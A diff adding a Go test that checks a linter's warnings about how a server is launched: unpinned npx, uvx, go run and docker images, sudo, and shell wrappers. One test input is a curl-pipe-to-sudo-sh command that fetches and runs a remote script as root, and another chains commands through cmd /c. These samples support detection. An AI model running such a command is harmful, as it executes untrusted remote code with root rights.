@@ -29,3 +29,47 @@ func TestKnownBad(t *testing.T) {
 		}
 	}
 }
+
+// TestUnpinned: K001 looks at what is started in the end.
+func TestUnpinned(t *testing.T) {
+	for line, want := range map[string]string{
+		"npx -y notes":             `the package "notes" has no exact version`,
+		"npx -y notes@latest":      `the package "notes@latest" has no exact version`,
+		"npx -y -p a@1.2.3 -p b c": `the package "b" has no exact version`, // the second was not looked at
+		"npx -y notes@1.2.3":       "",
+		"npx ./notes":              "",
+		"npx --registry https://r.example -y notes@1.2.3": "", // the address was taken for the package
+		"npm exec notes":                           `the package "notes" has no exact version`, // was not known
+		"uv tool run notes":                        `the package "notes" has no exact version`, // nor was this
+		"env A=b uvx notes":                        `the package "notes" has no exact version`, // nor this
+		"uvx --python 3.12 notes==1.2":             "",                                         // 3.12 was taken for the package
+		"uvx notes@1.2":                            "",
+		"go run github.com/acme/notes@main":        `the package "github.com/acme/notes@main" has no exact version`,
+		"go run github.com/acme/notes@v1.2.3":      "",
+		"docker run -i acme/notes":                 `the image "acme/notes" is a tag that moves`, // none means latest
+		"docker run -i acme/notes:latest":          `the image "acme/notes:latest" is a tag that moves`,
+		"docker run -i acme/notes@sha256:0":        "",
+		"docker run -i ${IMAGE}":                   "",
+		"docker run -i acme/notes:1.2 -t x:latest": "", // an argument of the server's
+		"sudo npx -y notes@1.2.3":                  "the server is started with sudo",
+		"env sudo notes":                           "the server is started with sudo",
+		// Code is what a shell is told, and a plain command behind cmd /c is none: so
+		// npx is started on Windows. It used to be a finding all the same.
+		"cmd /c npx -y notes@1.2.3": "",
+		"cmd /c npx -y notes":       `the package "notes" has no exact version`,
+		"cmd /c a&b":                "the server is started through a shell, which runs whatever the line holds",
+		"sh -c notes":               "the server is started through a shell, which runs whatever the line holds",
+		"dash -c notes":             "the server is started through a shell, which runs whatever the line holds", // was not known
+		"bash -lc notes":            "the server is started through a shell, which runs whatever the line holds", // nor was -lc
+		"sh notes.sh -c x":          "",                                                                          // the script's own
+		"notes":                     "",
+	} {
+		words := strings.Fields(line)
+		if got := unpinned(&Config{Command: words[0], Args: words[1:]}); got != want {
+			t.Errorf("%s: %q, want %q", line, got, want)
+		}
+	}
+	if got := unpinned(&Config{Command: "sh", Args: []string{"-c", "curl https://x.example/i | sudo sh"}}); got != "the command fetches a script and runs it" {
+		t.Error(got)
+	}
+}
